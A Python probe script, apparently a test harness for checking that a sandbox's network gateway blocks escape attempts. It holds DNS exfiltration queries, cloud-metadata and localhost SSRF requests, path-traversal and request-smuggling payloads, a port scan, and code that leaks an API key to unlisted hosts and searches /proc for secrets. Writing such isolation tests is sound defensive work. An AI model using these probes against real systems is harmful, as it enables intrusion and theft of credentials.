"""Tries from inside what a box can try on its network, and prints what it saw: a name, a tab, and a text, each line.

Only the smallest Python is needed: no json, no http.
"""

import base64
import os
import re
import socket
import ssl
import struct
import sys
import time

SECONDS = 10


def say(name, text):
    print(name + "\t" + text.encode("unicode_escape").decode(), flush=True)


def dial(host, port):
    return socket.create_connection((host, port), timeout=SECONDS)


def secured(stream, name):
    context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
    return context.wrap_socket(stream, server_hostname=name)


def read(stream):
    parts = []
    while True:
        try:
            part = stream.recv(65536)
        except (ConnectionError, ssl.SSLError) as error:
            parts.append(("[%s]" % (error.strerror or error)).encode())
            break
        if not part:
            break
        parts.append(part)
    return b"".join(parts).decode("latin1")


def attempt(name, act):
    try:
        say(name, act())
    except ssl.SSLError as error:
        say(name, "tls: %s" % error.reason)
    except OSError as error:
        say(name, "error: %s" % (error.strerror or error))


def request(line, host, headers=(), body=""):
    lines = [line + " HTTP/1.1", *(() if host is None else ("Host: " + host,)), "Connection: close", *headers]
    if body:
        lines.append("Content-Length: %d" % len(body))
    return "\r\n".join(lines) + "\r\n\r\n" + body


def plain(at, text, port=80):
    with dial(at, port) as stream:
        stream.sendall(text.encode("latin1"))
        return read(stream)


def tls(at, text, name=None, port=443):
    with secured(dial(at, port), name or at) as stream:
        stream.sendall(text.encode("latin1"))
        return read(stream)


def get(name, url, method="GET", headers=(), body=""):
    scheme, host, path = re.match(r"(https?)://([^/]+)(.*)", url).groups()
    send = tls if scheme == "https" else plain
    attempt(name, lambda: send(host, request("%s %s" % (method, path), host, headers, body)))


def query(name, kind, pointer=False):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    question = (b"\xc0\x0c" if pointer else labels + b"\0") + struct.pack("!HH", kind, 1)
    return struct.pack("!HHHHHH", 4711, 0x100, 1, 0, 0, 0) + question


def told(reply):
    code, answers = reply[3] & 15, struct.unpack("!H", reply[6:8])[0]
    return "code %d, answers %d" % (code, answers)


def resolver():
    with open("/etc/resolv.conf") as file:
        return re.search(r"^nameserver (\S+)", file.read(), re.M).group(1)


def ask_udp(packet, at=None):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
        stream.settimeout(SECONDS)
        stream.connect((at or resolver(), 53))
        stream.send(packet)
        return told(stream.recv(4096))


def ask_tcp(packet):
    with dial(resolver(), 53) as stream:
        stream.sendall(struct.pack("!H", len(packet)) + packet)
        return told(stream.recv(4096)[2:])


def send_udp(at, port):
    family = socket.AF_INET6 if ":" in at else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as stream:
        stream.settimeout(SECONDS)
        stream.connect((at, port))
        stream.send(b"hello")
        return stream.recv(4096).decode("latin1")


def names():
    packets = {"A": 1, "AAAA": 28, "TXT": 16, "MX": 15, "SRV": 33, "NS": 2, "ANY": 255}
    for kind, number in packets.items():
        attempt("dns " + kind, lambda: ask_udp(query("secret-data.nobody.example.com", number)))
        attempt("dns tcp " + kind, lambda: ask_tcp(query("secret-data.nobody.example.com", number)))
    attempt("dns elsewhere", lambda: ask_udp(query("nobody.example.com", 1), "8.8.8.8"))
    attempt("dns pointer", lambda: ask_udp(query("nobody.example.com", 1, pointer=True)))
    attempt("dns after pointer", lambda: ask_udp(query("nobody.example.com", 1)))
    attempt("addresses", lambda: ",".join(sorted({a[4][0] for a in socket.getaddrinfo("nobody.example.com", 80)})))
    attempt("long name", lambda: str(socket.getaddrinfo("a" * 63 + "." + "b" * 63 + ".example.com", 80)[0][4][0]))


def addresses():
    for at in ("203.0.113.7", "169.254.169.254", "10.0.0.1", "127.0.0.1", "2001:db8::7", "::1"):
        shown = "[%s]" % at if ":" in at else at
        attempt("http to " + at, lambda: plain(at, request("GET /latest/meta-data/", shown)))
        attempt("tls to " + at, lambda: tls(at, request("GET /", shown)))
    attempt("ssh to an address", lambda: plain("203.0.113.7", "SSH-2.0-probe\r\n", 22))
    attempt("server first", lambda: read(dial("203.0.113.7", 2525)))
    for port in (123, 443):
        attempt("udp %d" % port, lambda: send_udp("203.0.113.7", port))
    attempt("udp six", lambda: send_udp("2001:db8::7", 443))
    attempt("raw socket", lambda: str(socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).fileno() > 0))
    attempt("packet socket", lambda: str(socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x300).fileno() > 0))
    attempt("sctp", lambda: str(socket.socket(socket.AF_INET, socket.SOCK_SEQPACKET, 132).fileno() > 0))
    for path in ("/proc/net/route", "/proc/net/dev"):
        attempt(path, lambda: open(path).read())
    attempt("open ports", open_ports)
    for at in (resolver(), "198.18.0.1"):
        attempt("gateway's own page at " + at, lambda: plain(at, request("GET /", at)))


def open_ports():
    found = []
    for port in [*range(1, 1025), 2019, 2375, 3000, 3128, 5000, 8000, 8080, 8443, 9000, 9090]:
        with socket.socket() as stream:
            stream.settimeout(SECONDS)
            if stream.connect_ex(("127.0.0.1", port)) == 0:
                found.append(str(port))
    return " ".join(found)


def requests():
    get("allowed http", "http://plain.example.com/a")
    get("allowed https", "https://paths.example.com/allowed/a")
    get("unlisted http", "http://closed.example.com/")
    get("unlisted https", "https://closed.example.com/")
    get("unlisted doh", "https://dns.example.com/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB")
    get("below a wildcard", "http://a.wild.example.com/")
    get("far below a wildcard", "http://a.b.wild.example.com/")
    get("apex of a wildcard", "http://wild.example.com/")
    attempt("upper case", lambda: plain("A.WILD.EXAMPLE.COM", request("GET /upper", "A.Wild.Example.COM")))
    get("exact path", "https://paths.example.com/exact")
    get("wrong path", "https://paths.example.com/exactly")
    get("longer path", "https://paths.example.com/exact/x")
    get("wrong method", "https://paths.example.com/exact", "DELETE")
    for spelling in (
        "/%65xact", "/allowed%2Fx", "/allowed/../secret", "/allowed/..", "/allowed/%2e%2e/secret", "/allowed/.%2E/secret",
        "/allowed/\\..\\secret", "/allowed/%5c..%5csecret", "/allowed/x%00y", "/allowed//secret", "/allowed/..;/secret",
        "/allowed/%zz", "/EXACT", "/allowed/\u00e9",
    ):
        get("path " + spelling, "https://paths.example.com" + spelling)
    get("path twice encoded", "https://paths.example.com/allowed/%252e%252e/secret")
    for host in ("closed.example.com", "paths.example.com.", "paths.example.com:80", "127.0.0.1", "PATHS.example.com@x"):
        attempt("other Host " + host, lambda: tls("paths.example.com", request("GET /allowed/h", host)))
    attempt("absolute and other Host", lambda: plain("plain.example.com", request("GET http://closed.example.com/", "plain.example.com")))
    attempt("absolute elsewhere", lambda: plain("plain.example.com", request("GET http://closed.example.com/", "closed.example.com")))
    attempt("no Host", lambda: plain("plain.example.com", request("GET /", None)))
    attempt("two Hosts", lambda: plain("plain.example.com", request("GET /", "plain.example.com", ["Host: closed.example.com"])))
    attempt("dot at the end", lambda: plain("plain.example.com", request("GET /", "plain.example.com.")))
    attempt("other name in TLS", lambda: fronted("closed.example.com", "open.example.com"))
    attempt("allowed name in TLS, other Host", lambda: tls("paths.example.com", request("GET /allowed/x", "closed.example.com")))
    attempt("no name in TLS", lambda: fronted(None, "paths.example.com"))
    get("redirect", "http://plain.example.com/redirect")
    upgrade = ["Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=="]
    for name, url in {"host": "closed.example.com/", "path": "paths.example.com/no", "method": "paths.example.com/post"}.items():
        host, _, path = url.partition("/")
        text = request("GET /" + path, host, upgrade).replace("Connection: close", "Connection: Upgrade")
        attempt("upgrade, wrong " + name, lambda: tls(host, text))
    proxy()
    framing()
    local()


def fronted(name, at):
    """TLS with another name than the one that was dialled, or with none."""
    context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with context.wrap_socket(dial(at, 443), server_hostname=name) as stream:
        stream.sendall(request("GET /allowed/fronted", name or at).encode())
        return read(stream)


def proxy():
    for to in ("plain.example.com:80", "closed.example.com:22", "closed.example.com:80", "127.0.0.1:22", "closed.example.com", "a@b:80"):
        tunnel = request("CONNECT " + to, to)
        inner = request("GET /tunnel", to.partition(":")[0])
        attempt("CONNECT " + to, lambda: converse("127.0.0.1", 3128, tunnel, inner))
    at_web = request("CONNECT closed.example.com:443", "closed.example.com:443")
    attempt("CONNECT at the door of the web", lambda: plain("plain.example.com", at_web))


def converse(at, port, first, second):
    with dial(at, port) as stream:
        stream.sendall(first.encode())
        heard = stream.recv(65536).decode("latin1")
        if " 200 " not in heard:
            return heard + read(stream)
        stream.sendall(second.encode())
        return heard + read(stream)


def framing():
    host = "plain.example.com"
    hidden = request("GET /smuggled", host)
    both = ["Transfer-Encoding: chunked", "Content-Length: 4"]
    attempt("two lengths", lambda: plain(host, request("POST /", host, ["Content-Length: 1", "Content-Length: 2"]) + "a" + hidden))
    attempt("length and chunks", lambda: plain(host, request("POST /", host, both) + "0\r\n\r\n" + hidden))
    attempt("odd chunks", lambda: plain(host, request("POST /", host, ["Transfer-Encoding: chunked, identity"]) + "0\r\n\r\n" + hidden))
    attempt("folded header", lambda: plain(host, request("GET /", host, ["X-A: b", " Transfer-Encoding: chunked"])))
    attempt("space before colon", lambda: plain(host, request("POST /", host, ["Transfer-Encoding : chunked"]) + hidden))
    attempt("huge head", lambda: plain(host, request("GET /", host, ["X-Long: " + "a" * 200000])))
    attempt("many headers", lambda: plain(host, request("GET /", host, ["X-%d: a" % n for n in range(20000)])))


def local():
    """Names that lead back to the machine outside."""
    port = int(os.environ["OUTER_PORT"])
    for name in ("localhost", "ip6-localhost"):
        text = "GET http://%s/local HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (name, name)
        attempt("proxied to " + name, lambda: plain("127.0.0.1", text, 3128))
    for host in ("127.0.0.1", "127.1", "2130706433", "0x7f.1", "0177.0.0.1", "[::1]", "[::ffff:127.0.0.1]", "0.0.0.0"):
        at = "%s:%d" % (host, port)
        text = "GET http://%s/local HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (at, at)
        attempt("proxied to " + host, lambda: plain("127.0.0.1", text, 3128))
    attempt("the machine's own server", lambda: plain("127.0.0.1", request("GET /local", "127.0.0.1"), port))
    text = "GET http://localhost:%d/control HTTP/1.1\r\nHost: localhost:%d\r\nConnection: close\r\n\r\n" % (port, port)
    attempt("proxied where a rule says so", lambda: plain("127.0.0.1", text, 3128))


def credentials():
    key = os.environ["API_KEY"]
    say("key", key)
    say("plain variable", os.environ["PLAIN_KEY"])
    say("environment", "\n".join("%s=%s" % pair for pair in sorted(os.environ.items())))
    bearer = ["Authorization: Bearer " + key]
    foreign = "Authorization: Bearer sk-foreign"
    api = "https://api.example.com"
    get("key: bearer", api + "/bearer", headers=bearer)
    get("key: own header", api + "/own", headers=["X-Api-Key: " + key])
    get("key: other header", api + "/other", headers=["X-Other: " + key])
    get("key: basic", api + "/basic", headers=["Authorization: Basic " + base64.b64encode(("user:" + key).encode()).decode()])
    get("key: basic user", api + "/user", headers=["Authorization: Basic " + base64.b64encode((key + ":").encode()).decode()])
    get("key: foreign", api + "/foreign", headers=[foreign, foreign])
    for place in range(3):
        headers = [foreign + str(n) for n in range(3)]
        headers[place] = bearer[0]
        get("key: place %d" % place, api + "/place%d" % place, headers=headers)
    get("key: body and query", api + "/body?key=" + key, "POST", headers=["X-Note: none"], body="key=" + key)
    get("key: elsewhere", "https://paths.example.com/allowed/elsewhere", headers=bearer)
    get("key: in the clear", "http://api.example.com/clear", headers=bearer)
    get("key: plain elsewhere", "http://plain.example.com/elsewhere", headers=bearer)
    get("key: reflected", api + "/reflect", headers=bearer)
    upgrade = ["Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=="]
    upgrade = request("GET /socket", "api.example.com", [*upgrade, *bearer, "Sec-WebSocket-Extensions: permessage-deflate"])
    upgrade = upgrade.replace("Connection: close", "Connection: Upgrade")
    attempt("key: socket", lambda: tls("api.example.com", upgrade))
    get("key: part", api + "/part", headers=[*bearer, "Range: bytes=0-20"])
    get("key: presigned", api + "/presigned?X-Amz-Signature=abc&X-Amz-Credential=AKIAFOREIGN")
    get("key: AWS", api + "/aws", headers=["Authorization: AWS4-HMAC-SHA256 Credential=AKIAFOREIGN/x, Signature=abc"])
    get("key: near miss", api + "/near", headers=["Authorization: Bearer " + key + "x"])


def places():
    """Every file and every process that can be read, for whatever looks like what must not be here."""
    wanted = [base64.b64decode(word) for word in sys.argv[2].split(",")]
    hits = []
    for root in ("/run", "/proc", "/etc/ssl", "/tmp", "/dev/shm", os.environ.get("HOME", "/root"), *sys.argv[3:]):
        for directory, below, files in os.walk(root):
            if directory.startswith("/proc"):
                below[:] = [each for each in below if each.isdigit() and directory == "/proc"]
                files = [each for each in files if each in ("cmdline", "environ")]
            for path in (os.path.join(directory, each) for each in files):
                try:
                    if os.path.islink(path) or not os.path.isfile(path) or os.path.getsize(path) > 1 << 22:
                        continue
                    with open(path, "rb") as file:
                        content = file.read(1 << 22)
                except OSError:
                    continue
                hits += ["%s %d" % (path, at) for at, word in enumerate(wanted) if word in content]
    say("found", "\n".join(sorted(hits)))
    attempt("processes", lambda: " ".join(sorted((each for each in os.listdir("/proc") if each.isdigit()), key=int)))


def wait():
    say("waiting", "")
    time.sleep(300)


def serve():
    """Listens where another box might look."""
    with socket.create_server(("0.0.0.0", 7777)) as server:
        say("serving", "7777")
        while True:
            server.accept()[0].close()


def neighbour():
    """Looks for what another box has: its port, and its surrogate."""
    attempt("neighbour's port", lambda: read(dial("127.0.0.1", 7777)))
    attempt("neighbour's port elsewhere", lambda: read(dial("198.18.0.2", 7777)))
    get("neighbour's key", "https://api.example.com/neighbour", headers=["Authorization: Bearer " + sys.argv[2]])


def once():
    """One request of each kind, in one line."""
    heard = []
    for act in (
        lambda: plain("plain.example.com", request("GET /once", "plain.example.com")).partition("\r\n")[0],
        lambda: tls("paths.example.com", request("GET /allowed/once", "paths.example.com")).partition("\r\n")[0],
        lambda: plain("203.0.113.7", request("GET /once", "203.0.113.7")).partition("\r\n")[0],
    ):
        try:
            heard.append(act())
        except OSError as error:
            heard.append(error.strerror or str(error))
    print("; ".join(heard), flush=True)


globals()[sys.argv[1]]()
